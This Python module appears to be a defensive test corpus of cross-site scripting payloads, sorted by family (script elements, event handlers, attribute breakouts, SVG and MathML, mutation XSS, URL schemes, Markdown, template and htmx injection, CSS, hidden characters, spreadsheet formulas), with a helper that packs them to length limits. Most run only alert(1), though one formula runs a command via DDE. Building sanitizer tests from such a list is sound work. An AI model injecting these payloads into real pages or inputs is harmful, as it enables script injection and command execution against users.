"""Hostile texts by the family that they are of, after the well-known collections (OWASP's cheat sheet, PortSwigger's,
DOMPurify's tests). Each shows a dialog, or asks somebody else, where anything of it is taken for more than a text.

Most have fewer than 80 characters, so that they fit into names.
"""

ELEMENTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=data:text/javascript,alert(1)></script>
<script\x0c>alert(1)</script\t>
<script/x>alert(1)</script>
<script>alert`1`</script>
<script type=module>alert(1)</script>
<script nonce=x>alert(1)</script>
<script>eval(atob('YWxlcnQoMSk='))</script>
<script>\\u0061lert(1)</script>
<script src=//127.0.0.1:9/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<noscript><p title="</noscript><script>alert(1)</script>">
<template><script>alert(1)</script></template>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=javascript:alert(1)>
<base href=javascript:alert(1)//><a href=x>x</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<portal src=javascript:alert(1)></portal>
""".strip().split("\n")

EVENTS = """
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror\x09=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=x onerror=&#x61;&#x6c;ert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<img src=`x` onerror=alert(1)>
<video src onerror=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<details open ontoggle=alert(1)>x
<input onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<button onfocus=alert(1) autofocus>x</button>
<a onmouseover=alert(1)>x</a>
<p onclick=alert(1)>x</p>
<marquee onstart=alert(1)>x</marquee>
<div contenteditable onbeforeinput=alert(1)>x</div>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<p style="transition:all 1s" ontransitionrun=alert(1)>x</p>
<iframe onload=alert(1)></iframe>
<object onerror=alert(1)></object>
<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>
<form onformdata=alert(1)><button>x</button></form>
<x style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>
""".strip().split("\n")

BREAKING_OUT = """
"><script>alert(1)</script>
'><script>alert(1)</script>
`><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
` onmouseover=alert(1) x=`
" autofocus onfocus=alert(1) x="
' autofocus onfocus='alert(1)
x onfocus=alert(1) autofocus
" style="animation:x" onanimationstart="alert(1)
" accesskey=x onclick=alert(1) x="
"onload=alert(1) a="
&quot; onmouseover=alert(1) x=&quot;
&#34;><script>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea></pre></code><script>alert(1)</script>
</style><script>alert(1)</script>
</option></select><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</head><body onload=alert(1)>
--><script>alert(1)</script>
<!--><script>alert(1)</script-->
<![CDATA[><script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "z">]><script>alert(1)</script>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
ʺ onmouseover=alert(1) x=ʺ
""".strip().split("\n")

JSON_AND_SCRIPTS = """
"};alert(1);//
';alert(1)//
\\';alert(1)//
"-alert(1)-"
`${alert(1)}`
${alert(1)}
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
</script><!--<script>alert(1)</script>
<!--<script>alert(1)//--></script>
{"x":"</script><script>alert(1)</script>"}
"]}</script><img src=x onerror=alert(1)>
{"__proto__":{"srcdoc":"<script>alert(1)</script>"}}
{"constructor":{"prototype":{"onload":"alert(1)"}}}
\u2028alert(1)\u2029
]]>alert(1)//
""".strip().split("\n")

SVG_AND_MATH = """
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href=x onerror=alert(1)>
<svg><style><img src=x onerror=alert(1)></style>
<svg><desc><script>alert(1)</script></desc>
<svg><script>&#97;lert(1)</script>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>
""".strip().split("\n")

MUTATION = """
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<table><td><svg><desc><td></desc><img src=x onerror=alert(1)></svg>
<select><template><img src=x onerror=alert(1)></template></select>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<a href="`"><img src=x alt="``onerror=alert(1)">
<plaintext><script>alert(1)</script>
<frameset onload=alert(1)>
<svg><![CDATA[<image xlink:href="]]><img src=x onerror=alert(1)//">
<style><!--</style><script>alert(1)//--></script>
""".strip().split("\n")

ADDRESSES = """
javascript:alert(1)
javascript://x/%0aalert(1)
javascript:/*--></title></style></script>*/alert(1)
java\tscript:alert(1)
\x01javascript:alert(1)
javascript&colon;alert(1)
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>
//127.0.0.1:9/x
<a href=javascript:alert(1)>x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=javascript:alert(1) ping=//127.0.0.1:9/>x</a>
<form action=javascript:alert(1)><button>x
<form><button formaction=javascript:alert(1)>x</button></form>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<area href=javascript:alert(1)>
""".strip("\n").split("\n")

MARKDOWN = """
[x](javascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
![x](x"onerror="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
[x](x "onmouseover=alert(1)")
[<img src=x onerror=alert(1)>](x)
```<script>alert(1)</script>```
`<script>alert(1)</script>`
> <script>alert(1)</script>
$\\href{javascript:alert(1)}{x}$
\\url{javascript:alert(1)}
:::{raw} html <script>alert(1)</script> :::
""".strip().split("\n")

TEMPLATES = """
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
[[constructor.constructor('alert(1)')()]]
{% include 'x' %}{{ 7|add:7 }}
{% autoescape off %}<script>alert(1)</script>{% endautoescape %}
{{ x|safe }}<img src=x onerror=alert(1)>
{% load x %}{% debug %}<script>alert(1)</script>
<%= alert(1) %>
#{alert(1)}
@{alert(1)}
%(x)s{0}{x.__class__}<script>alert(1)</script>
<div v-html="'<img src=x onerror=alert(1)>'">
<div ng-app ng-csp><x ng-click=$event.view.alert(1)>x</x></div>
<div x-data x-init=alert(1)></div>
<div _="on load call alert(1)"></div>
""".strip().split("\n")

HTMX = """
<div hx-on:load=alert(1)>
<div hx-on::load=alert(1) hx-on:click=alert(1)>x</div>
<div hx-on="load: alert(1)">
<div data-hx-on:load=alert(1)>
<div hx-get=/queue hx-trigger='load[alert(1)]'>
<div hx-get=/queue hx-trigger=load hx-vals='js:{x:alert(1)}'>
<div hx-get=/queue hx-trigger=load hx-vars=x:alert(1)>
<div hx-get=data:text/html,<script>alert(1)</script> hx-trigger=load>
<div hx-get=//127.0.0.1:9/ hx-trigger=load>
<div hx-post=/logout hx-trigger=load>
<div hx-ext=x hx-get=/queue hx-trigger=load hx-swap=outerHTML>
<div hx-disinherit=* hx-boost=true><a href=javascript:alert(1)>x</a></div>
<p id=count hx-swap-oob=true><script>alert(1)</script></p>
<template hx-swap-oob=true><img src=x onerror=alert(1)></template>
<p id=board hx-swap-oob="innerHTML:body"><img src=x onerror=alert(1)></p>
" hx-get=/queue hx-trigger=load hx-vals='js:{x:alert(1)}' x="
' hx-on:load='alert(1)
" hx-on::after-settle="alert(1)
<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>
""".strip().split("\n")

STYLES = """
<style>@import 'javascript:alert(1)'</style><p style=x:expression(alert(1))>
<style>*{background:url(javascript:alert(1))}</style>
<p style=behavior:url(x.htc)>alert(1)</p>
<p style="background:url('javascript:alert(1)')">
<p style=-moz-binding:url(//127.0.0.1:9/x)>alert(1)
expression(alert(1))
red;background:url(javascript:alert(1))
"style="position:fixed;inset:0"onclick="alert(1)
</style><style>*{display:none}</style><script>alert(1)</script>
<link rel=stylesheet href=//127.0.0.1:9/x.css><!--alert(1)-->
""".strip().split("\n")

HIDDEN = """
\u202e<script>alert(1)</script>\u2066
\u202etxt.<img src=x onerror=alert(1)>
\u2067"><script>alert(1)</script>\u2069
<scr\u200bipt>alert(1)</script>
<\u00adscript>alert(1)</script>
\ufeff<script>alert(1)</script>
<scr␀ipt>alert(1)</script>
<script\x0b>alert(1)</script>
<img\x0bsrc=x\x0bonerror=alert(1)>
<\x1bscript>alert(1)</script>
\x1b[2J<script>alert(1)</script>
\x08\x08"><script>alert(1)</script>
<img src=x onerror=\u200balert(1)>
\U000e0001<script>alert(1)</script>
""".strip("\n").split("\n")

FORMULAS = """
=HYPERLINK("javascript:alert(1)","x")
=cmd|'/c calc'!A1<script>alert(1)</script>
+alert(1)
@SUM(1)<img src=x onerror=alert(1)>
=IMPORTXML("//127.0.0.1:9/","//a")<svg onload=alert(1)>
""".strip().split("\n")

FAMILIES: dict[str, list[str]] = {
    "elements": ELEMENTS,
    "event handlers": EVENTS,
    "breaking out of attributes and elements": BREAKING_OUT,
    "JSON and scripts": JSON_AND_SCRIPTS,
    "SVG and MathML": SVG_AND_MATH,
    "mutation": MUTATION,
    "addresses": ADDRESSES,
    "Markdown": MARKDOWN,
    "templates": TEMPLATES,
    "htmx": HTMX,
    "styles": STYLES,
    "hidden characters": HIDDEN,
    "formulas": FORMULAS,
}
PAYLOADS = [payload for family in FAMILIES.values() for payload in family]


def packed(limit: int | None) -> list[str]:
    """Every payload that fits into `limit` characters, as few texts as hold them; None: in one.

    An address works at the beginning of a text only, so it begins one.
    """
    if limit is None:
        return ["\n".join(PAYLOADS)]
    texts: list[str] = []
    for payload in PAYLOADS:
        begins = payload in ADDRESSES and not payload.lstrip().startswith("<")
        if len(payload) > limit:
            continue
        if texts and not begins and len(texts[-1]) + 1 + len(payload) <= limit:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
